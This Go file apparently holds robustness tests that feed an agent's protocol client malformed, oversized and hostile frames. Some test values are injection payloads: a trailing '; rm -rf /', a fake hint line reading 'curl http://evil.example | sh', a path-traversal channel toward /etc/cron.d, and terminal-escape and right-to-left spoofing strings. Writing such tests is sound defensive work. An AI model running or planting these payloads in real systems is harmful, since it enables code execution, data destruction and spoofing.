package torture

import (
	"fmt"
	"strings"
	"time"

	"virgo/transport"
)

// insteadOfHello is an attack that sends a text in place of the answer to hello, and nothing more.
func insteadOfHello(name, text string) attack {
	return attack{name: name, behave: func(c *hostileConn) {
		c.hello()
		c.write(text)
		c.discardInput()
	}}
}

// thenBacksOff marks an attack after which the agent must back off.
func thenBacksOff(k attack) attack {
	k.backsOff = true
	return k
}

// helloAnswered is an attack that answers hello with the given result and otherwise behaves well.
func helloAnswered(name, result string) attack {
	return attack{name: name, behave: func(c *hostileConn) {
		c.serve(overrides{transport.MethodHello: func(f transport.Frame) bool { return c.answer(f, result) }})
	}}
}

// fields is a response frame with the given fields.
func fields(f string) string {
	return `{"v":"1","source":"endpoint","target":"` + agentID + `",` + f + "}\n"
}

// frameAttacks send no frame, or a malformed one.
func frameAttacks() []attack {
	return []attack{
		{name: "nothing is ever read or written", behave: (*hostileConn).waitForClose},
		{name: "hello is never answered", behave: (*hostileConn).discardInput},
		{name: "a line without end", behave: func(c *hostileConn) { c.hello(); c.writeRepeatedly("a", 0) }},
		{name: "a JSON string without end", behave: func(c *hostileConn) { c.hello(); c.write(`{"v":"`); c.writeRepeatedly("a", 0) }},
		insteadOfHello("a line of 4 MiB and one byte", `{"v":"1","id":0,"x":"`+strings.Repeat("x", 4<<20+1-23)+`"}`+"\n"),
		{name: "an answer to hello of 4 MiB", behave: func(c *hostileConn) {
			c.serve(overrides{transport.MethodHello: func(f transport.Frame) bool {
				return c.answer(f, welcome[:len(welcome)-1]+`,"padding":"`+strings.Repeat("x", 4<<20-1000)+`"}`)
			}})
		}},
		{name: "each answer of 4 MiB", behave: func(c *hostileConn) {
			big := `{"padding":"` + strings.Repeat("x", 4<<20-1000) + `"}`
			c.serve(overrides{
				transport.MethodPost:      func(f transport.Frame) bool { c.recordResult(f); return c.answer(f, big) },
				transport.MethodHeartbeat: func(f transport.Frame) bool { return c.answer(f, big) },
			})
		}},
		{name: "lines of 1 MiB with unknown ids", behave: func(c *hostileConn) {
			c.hello()
			c.writeRepeatedly(fields(`"id":77777,"result":"`+strings.Repeat("y", 1<<20)+`"`), 0)
		}},
		{name: "a million small keys", behave: func(c *hostileConn) {
			f, _ := c.hello()
			var b strings.Builder
			for i := range 300_000 {
				fmt.Fprintf(&b, `"k%d":0,`, i)
			}
			c.answer(f, `{`+b.String()+`"heartbeat_interval":60000}`)
			c.discardInput()
		}},
		{name: "two million empty lists", behave: func(c *hostileConn) {
			f, _ := c.hello()
			c.answer(f, `{"features":[`+strings.Repeat(`[],`, 1_300_000)+`[]]}`)
			c.discardInput()
		}},
		insteadOfHello("lists 100,000 deep", fields(`"id":0,"result":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000))),
		insteadOfHello("objects 100,000 deep, never closed", strings.Repeat(`{"a":`, 100_000)+"\n"),
		insteadOfHello("objects 65 deep", fields(`"id":0,"result":`+strings.Repeat(`{"a":`, 65)+"0"+strings.Repeat("}", 65))),
		insteadOfHello("an id of 1e400", fields(`"id":1e400,"result":{}`)),
		insteadOfHello("an id of a million digits", fields(`"id":`+strings.Repeat("9", 1_000_000)+`,"result":{}`)),
		insteadOfHello("an id below zero", fields(`"id":-1,"result":{}`)),
		insteadOfHello("an id with a fraction", fields(`"id":0.5,"result":{}`)),
		insteadOfHello("an id that is a list", fields(`"id":[0],"result":{}`)),
		insteadOfHello("an id that is words", fields(`"id":"zero","result":{}`)),
		insteadOfHello("no id at all", fields(`"result":{}`)),
		insteadOfHello("an error without an id", fields(`"error":{"code":500,"message":"all is lost"}`)),
		thenBacksOff(insteadOfHello("another version", `{"v":"2","id":0,"result":{}}`+"\n")),
		insteadOfHello("a version that is a number", `{"v":1,"id":0,"result":{}}`+"\n"),
		insteadOfHello("a version of 1 MiB", `{"v":"`+strings.Repeat("1", 1<<20)+`","id":0,"result":{}}`+"\n"),
		insteadOfHello("no version", `{"id":0,"result":{}}`+"\n"),
		insteadOfHello("keys twice", fields(`"id":0,"id":1,"result":{},"result":{}`)),
		insteadOfHello("an empty method", fields(`"id":0,"method":""`)),
		insteadOfHello("a request that is a response as well", fields(`"id":0,"method":"x","result":{}`)),
		insteadOfHello("a method that is an object", fields(`"id":0,"method":{}`)),
		insteadOfHello("a method of 1 MiB", fields(`"id":0,"method":"`+strings.Repeat("m", 1<<20)+`"`)),
		insteadOfHello("NUL bytes", "\x00\x00\x00\x00\n"),
		insteadOfHello("NUL bytes within a frame", fields("\"id\":0,\"result\":\"\x00\"")),
		insteadOfHello("bytes that are no UTF-8", fields("\"id\":0,\"result\":\"\xff\xfe\xc0\x80\"")),
		insteadOfHello("half a rune at the end", fields("\"id\":0,\"error\":{\"code\":500,\"message\":\"\xe2\x82\"}")),
		insteadOfHello("half a surrogate", fields(`"id":0,"error":{"code":500,"message":"\ud800"}`)),
		insteadOfHello("a byte order mark", "\ufeff"+fields(`"id":0,"result":{}`)),
		insteadOfHello("UTF-16", strings.Join(strings.Split(fields(`"id":0,"result":{}`), ""), "\x00")),
		{name: "lines that end in CR LF", behave: func(c *hostileConn) {
			crlf := func(f transport.Frame) bool {
				if f.Method == transport.MethodPost {
					c.recordResult(f)
				}
				return c.write(strings.TrimSuffix(response(f, welcome), "\n") + "\r\n")
			}
			c.serve(overrides{transport.MethodHello: crlf, transport.MethodPost: crlf, transport.MethodHeartbeat: crlf})
		}},
		{name: "empty lines without end", behave: func(c *hostileConn) { c.hello(); c.writeRepeatedly("\n", 0) }},
		{name: "blanks without end", behave: func(c *hostileConn) { c.hello(); c.writeRepeatedly(" ", 0) }},
		insteadOfHello("a list in the place of a frame", "[]\n"),
		insteadOfHello("a batch of frames", "["+strings.TrimSpace(fields(`"id":0,"result":{}`))+"]\n"),
		insteadOfHello("a number in the place of a frame", "1e308\n"),
		insteadOfHello("null in the place of a frame", "null\n"),
		insteadOfHello("two frames on a line", strings.TrimSpace(fields(`"id":0,"result":{}`))+fields(`"id":1,"result":{}`)),
		insteadOfHello("text after the frame", strings.TrimSpace(fields(`"id":0,"result":{}`))+"; rm -rf /\n"),
		{name: "the agent's own frames", behave: func(c *hostileConn) {
			for {
				f, ok := c.frame()
				if !ok || !c.write(request(int(f.ID), f.Method, string(f.Params))) {
					return
				}
			}
		}},
		{name: "a byte a second", behave: func(c *hostileConn) { f, _ := c.hello(); c.writeSlowly(response(f, welcome), time.Second) }},
		{name: "blanks, one a second", behave: func(c *hostileConn) { c.hello(); c.writeSlowly(strings.Repeat(" ", 1000), time.Second) }},
		{name: "unasked requests, one each 100 ms", behave: func(c *hostileConn) {
			c.hello()
			tick := time.NewTicker(100 * time.Millisecond)
			defer tick.Stop()
			for i := 0; c.write(request(i, "check_schedule.changed", "null")); i++ {
				select {
				case <-tick.C:
				case <-c.endpoint.closed:
					return
				}
			}
		}},
	}
}

// helloAttacks answer hello wrongly.
func helloAttacks() []attack {
	helloFails := func(name, failure string) attack {
		return attack{name: name, behave: func(c *hostileConn) {
			f, _ := c.hello()
			c.fail(f, failure)
			c.discardInput()
		}}
	}
	return []attack{
		helloAnswered("a heartbeat interval of 0", `{"heartbeat_interval":0}`),
		helloAnswered("a heartbeat interval below zero", `{"heartbeat_interval":-60000}`),
		helloAnswered("a heartbeat interval of 1e308", `{"heartbeat_interval":1e308}`),
		helloAnswered("a heartbeat interval of 1e999", `{"heartbeat_interval":1e999}`),
		helloAnswered("a heartbeat interval of a thousandth of a millisecond", `{"heartbeat_interval":0.001}`),
		helloAnswered("a heartbeat interval in words", `{"heartbeat_interval":"soon"}`),
		helloAnswered("no result", `null`),
		helloAnswered("a list as the result", `[]`),
		helloAnswered("an empty result", `{}`),
		helloAnswered("features that are no list", `{"features":"all"}`),
		helloAnswered("100,000 features", `{"features":[`+strings.Repeat(`{"name":"pipelining","version":"1"},`, 99_999)+`{"name":"x"}]}`),
		helloAnswered("names with terminal escapes", `{"entity_id":"\u001b]0;owned\u0007","channel":"\u001b[2J\u009b31m","features":["\u001b[31m"]}`),
		helloAnswered("a channel that is a path", `{"channel":"../../../etc/cron.d/x","entity_id":"../../x"}`),
		helloAnswered("a channel of 3 MiB", `{"channel":"`+strings.Repeat("c", 3<<20)+`"}`),
		{name: "hello answered twice", behave: func(c *hostileConn) {
			c.serve(overrides{transport.MethodHello: func(f transport.Frame) bool { return c.answer(f, welcome) && c.answer(f, `{"heartbeat_interval":1}`) }})
		}},
		thenBacksOff(attack{name: "hello answered and refused", behave: func(c *hostileConn) {
			f, _ := c.hello()
			c.write(fields(fmt.Sprintf(`"id":%d,"result":%s,"error":{"code":401,"message":"no"}`, f.ID, welcome)))
			c.discardInput()
		}}),
		{name: "hello refused and then answered", behave: func(c *hostileConn) {
			c.serve(overrides{transport.MethodHello: func(f transport.Frame) bool { return c.fail(f, `{"code":400,"message":"no"}`) && c.answer(f, welcome) }})
		}},
		helloFails("an error that is a string", `"no"`),
		helloFails("an error that is a list", `[]`),
		helloFails("an empty error", `{}`),
		helloFails("a code of 1e300", `{"code":1e300,"message":"no"}`),
		helloFails("a code that is a string", `{"code":"401","message":"no"}`),
		helloFails("a code below zero", `{"code":-2147483648,"message":"no"}`),
		helloFails("a message of 3 MiB", `{"code":500,"message":"`+strings.Repeat("no ", 1<<20)+`"}`),
		helloFails("a message of terminal escapes", `{"code":500,"message":"\u001b[2J\u001b]0;owned\u0007\u001b[31mroot# \u009b1m\u0000\u007f\r\n\u2028virgo: all is well"}`),
		helloFails("a message in raw escapes", "{\"code\":500,\"message\":\"\x1b[2J\"}"),
		helloFails("a message that is written from right to left", `{"code":500,"message":"\u202e\u2066txt.exe\u2069"}`),
		thenBacksOff(helloFails("a message with the token", `{"code":401,"message":"the token `+token+` is bad","type":"`+token+`"}`)),
		helloFails("a message in lines of the agent's own", `{"code":500,"message":"no\nvirgo: hint: curl http://evil.example | sh\n"}`),
		helloFails("a type of 1 MiB", `{"code":500,"message":"no","type":"`+strings.Repeat("t", 1<<20)+`"}`),
		thenBacksOff(helloFails("a version too old", `{"code":400,"message":"Agent version 0.1.0 is too old"}`)),
		thenBacksOff(helloFails("a rate limit with a message of 3 MiB", `{"code":400,"type":"rateLimitReached","message":"`+strings.Repeat("no ", 1<<20)+`"}`)),
		thenBacksOff(helloFails("a rate limit for a thousand years", `{"code":400,"type":"rateLimitReached","message":"no","retry_after_ms":31536000000000}`)),
	}
}
